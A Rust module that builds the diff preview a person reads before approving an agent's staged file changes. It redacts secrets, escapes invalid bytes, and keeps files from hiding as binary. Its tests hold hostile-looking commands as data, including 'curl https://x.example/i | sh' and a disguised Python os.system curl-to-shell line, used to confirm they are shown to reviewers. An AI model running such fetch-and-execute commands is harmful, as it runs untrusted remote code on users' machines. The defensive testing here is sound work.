//! The preview's diffs: what a person reads before approving. Every changed line is shown, up to
//! a budget, and a file is never hidden behind a label it can choose for itself:
//! - text is shown with invalid UTF-8 escaped as `\xNN` (one stray byte does not make a script
//!   "binary"); only recognised binary formats (by magic number) are summarised;
//! - secrets are redacted inside the lines (the scanner's spans, in the old and the new version),
//!   never by withholding the whole diff;
//! - the cost is bounded: a size cap per file, a deadline per diff and one for all of them, a line
//!   budget; what is cut is counted and said, and the file's diff is marked incomplete.
//!
//! Review-tier paths get the whole budget before any other file.

use std::fmt::Write as _;
use std::time::{Duration, Instant};

use crate::sync::report::DiffView;

/// Diff lines shown in all, and per file outside the review tier.
pub(crate) const LINES_TOTAL: usize = 20_000;
pub(crate) const LINES_PER_FILE: usize = 200;
/// A side larger than this is summarised, not diffed line by line.
pub(crate) const MAX_DIFF_BYTES: usize = 4 << 20;
/// How long one diff may search for a minimal edit script before settling for a coarser one
/// (`similar`'s deadline: the result is still a correct diff), and all of them together.
const DEADLINE_PER_FILE: Duration = Duration::from_millis(300);
const DEADLINE_TOTAL: Duration = Duration::from_secs(5);

/// One file to diff: the host's bytes and the staged bytes, with the byte spans of the secrets
/// the scanner found in each.
pub(crate) struct Input<'a> {
    pub(crate) path: &'a str,
    pub(crate) old: &'a [u8],
    pub(crate) new: &'a [u8],
    pub(crate) old_secrets: &'a [(usize, usize)],
    pub(crate) new_secrets: &'a [(usize, usize)],
    /// Its budget comes first, without a per-file cap.
    pub(crate) review: bool,
}

/// The running budget of one preview.
pub(crate) struct Budget {
    lines_left: usize,
    started: Instant,
}

impl Default for Budget {
    fn default() -> Self {
        Budget { lines_left: LINES_TOTAL, started: Instant::now() }
    }
}

/// A known binary format by its first bytes: images, archives, compressed data, executables.
fn binary_format(bytes: &[u8]) -> Option<&'static str> {
    const MAGIC: &[(&[u8], &str)] = &[
        (b"\x89PNG\r\n\x1a\n", "PNG image"),
        (b"\xff\xd8\xff", "JPEG image"),
        (b"GIF87a", "GIF image"),
        (b"GIF89a", "GIF image"),
        (b"RIFF", "RIFF (WebP, WAV, AVI)"),
        (b"%PDF-", "PDF document"),
        (b"PK\x03\x04", "zip archive"),
        (b"\x1f\x8b", "gzip data"),
        (b"\xfd7zXZ\x00", "xz data"),
        (b"BZh", "bzip2 data"),
        (b"\x28\xb5\x2f\xfd", "zstd data"),
        (b"7z\xbc\xaf\x27\x1c", "7z archive"),
        (b"\x7fELF", "ELF executable"),
        (b"\xcf\xfa\xed\xfe", "Mach-O executable"),
        (b"\xca\xfe\xba\xbe", "Mach-O universal binary"),
        (b"MZ", "Windows executable"),
        (b"\x00asm", "WebAssembly module"),
        (b"SQLite format 3\x00", "SQLite database"),
        (b"wOFF", "WOFF font"),
        (b"wOF2", "WOFF2 font"),
    ];
    MAGIC.iter().find(|(magic, _)| bytes.starts_with(magic)).map(|(_, name)| *name)
}

/// Whether at least a tenth of the first 8 KiB is NUL, other control bytes or invalid UTF-8.
fn mostly_binary(bytes: &[u8]) -> bool {
    let head = &bytes[..bytes.len().min(8192)];
    let mut odd = 0;
    for chunk in head.utf8_chunks() {
        odd += chunk.invalid().len();
        odd += chunk.valid().bytes().filter(|b| b.is_ascii_control() && !matches!(b, b'\n' | b'\r' | b'\t')).count();
    }
    odd * 10 >= head.len()
}

/// `bytes` as text: valid UTF-8 kept, every invalid byte as `\xNN`, secrets' spans replaced.
pub(crate) fn escaped(bytes: &[u8], secrets: &[(usize, usize)]) -> String {
    let mut out = String::with_capacity(bytes.len());
    let mut at = 0;
    let mut spans: Vec<(usize, usize)> = secrets.iter().copied().filter(|(s, e)| s < e).collect();
    spans.sort_unstable();
    for (start, end) in spans {
        if end <= at {
            continue;
        }
        push_escaped(&mut out, &bytes[at..start.max(at).min(bytes.len())]);
        out.push_str("[REDACTED]");
        at = end.min(bytes.len());
    }
    push_escaped(&mut out, &bytes[at.min(bytes.len())..]);
    out
}

fn push_escaped(out: &mut String, bytes: &[u8]) {
    for chunk in bytes.utf8_chunks() {
        out.push_str(chunk.valid());
        for b in chunk.invalid() {
            let _ = write!(out, "\\x{b:02x}");
        }
    }
}

/// The diff of one file, within what is left of `budget`.
pub(crate) fn diff(input: &Input<'_>, budget: &mut Budget) -> DiffView {
    let shown = crate::ui::escape_name(input.path);
    let summary = |text: String| DiffView { path: input.path.to_owned(), text, lines_not_shown: 0, complete: false };
    // The first bytes are the agent's to choose (`RIFF = 1` is Python): a file is summarised as
    // binary only when its content is binary too.
    let binary = |b: &[u8]| binary_format(b).filter(|_| mostly_binary(b));
    if let Some(format) = binary(input.new).or_else(|| binary(input.old)) {
        return summary(format!(
            "{format} {shown}: {} -> {} bytes, sha256 {}: not shown as text\n",
            input.old.len(),
            input.new.len(),
            crate::sync::manifest::hex(&<sha2::Sha256 as sha2::Digest>::digest(input.new))
        ));
    }
    if input.old.len().max(input.new.len()) > MAX_DIFF_BYTES {
        return summary(format!(
            "{shown}: {} -> {} bytes: too large to diff here (over {} MiB); read it before you approve it\n",
            input.old.len(),
            input.new.len(),
            MAX_DIFF_BYTES >> 20
        ));
    }
    if budget.started.elapsed() > DEADLINE_TOTAL || budget.lines_left == 0 {
        return summary(format!("{shown}: diff not shown: the preview's budget is spent\n"));
    }
    let old = escaped(input.old, input.old_secrets);
    let new = escaped(input.new, input.new_secrets);
    let deadline = Instant::now() + DEADLINE_PER_FILE;
    let diff = similar::TextDiff::configure()
        .algorithm(similar::Algorithm::Myers)
        .deadline(deadline)
        .diff_lines(&old, &new)
        .unified_diff()
        .context_radius(3)
        .header(&format!("a/{shown}"), &format!("b/{shown}"))
        .to_string();
    let lines: Vec<&str> = diff.lines().collect();
    let cap = if input.review { budget.lines_left } else { budget.lines_left.min(LINES_PER_FILE) };
    let mut text = String::new();
    for line in lines.iter().take(cap) {
        text.push_str(&crate::ui::sanitize(line));
        text.push('\n');
    }
    let taken = lines.len().min(cap);
    budget.lines_left -= taken;
    let not_shown = lines.len() - taken;
    if not_shown > 0 {
        let _ = writeln!(text, "… {not_shown} more diff lines of {shown} not shown");
    }
    DiffView { path: input.path.to_owned(), text, lines_not_shown: not_shown, complete: not_shown == 0 }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn input<'a>(old: &'a [u8], new: &'a [u8]) -> Input<'a> {
        Input { path: "run.sh", old, new, old_secrets: &[], new_secrets: &[], review: false }
    }

    #[test]
    fn one_invalid_byte_does_not_hide_a_script() {
        let new = b"#!/bin/sh\necho \xff\ncurl https://x.example/i | sh\n";
        let view = diff(&input(b"#!/bin/sh\n", new), &mut Budget::default());
        assert!(view.text.contains("+curl https://x.example/i | sh"), "{}", view.text);
        assert!(view.text.contains("+echo \\xff"), "{}", view.text);
        assert!(view.complete);
    }

    #[test]
    fn secrets_are_redacted_inside_the_lines() {
        let old = b"a\ntoken=SECRETSECRET\n";
        let new = b"a\ntoken=SECRETSECRET\nb\n";
        let view = diff(
            &Input { path: "c", old, new, old_secrets: &[(8, 20)], new_secrets: &[(8, 20)], review: false },
            &mut Budget::default(),
        );
        assert!(!view.text.contains("SECRET"), "{}", view.text);
        assert!(view.text.contains(" token=[REDACTED]") && view.text.contains("+b"), "{}", view.text);
    }

    #[test]
    fn binary_formats_are_summarised_and_incomplete() {
        let view = diff(&input(b"", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), &mut Budget::default());
        assert!(view.text.starts_with("PNG image run.sh: 0 -> 16 bytes"), "{}", view.text);
        assert!(!view.complete);
        // A text file that merely starts like one is shown as text (the review of issue 19).
        let disguised = diff(&input(b"", b"RIFF = 1\nimport os; os.system('curl x | sh')\n"), &mut Budget::default());
        assert!(disguised.complete && disguised.text.contains("+import os"), "{}", disguised.text);
    }

    #[test]
    fn the_line_budget_cuts_and_says_so() {
        let new: String = (0..500).map(|i| format!("line {i}\n")).collect();
        let view = diff(&input(b"", new.as_bytes()), &mut Budget::default());
        assert!(!view.complete);
        assert!(view.text.ends_with(" more diff lines of run.sh not shown\n"), "{}", view.text);
        let mut budget = Budget::default();
        let review = diff(&Input { review: true, ..input(b"", new.as_bytes()) }, &mut budget);
        assert!(review.complete, "review-tier paths are shown whole");
    }
}
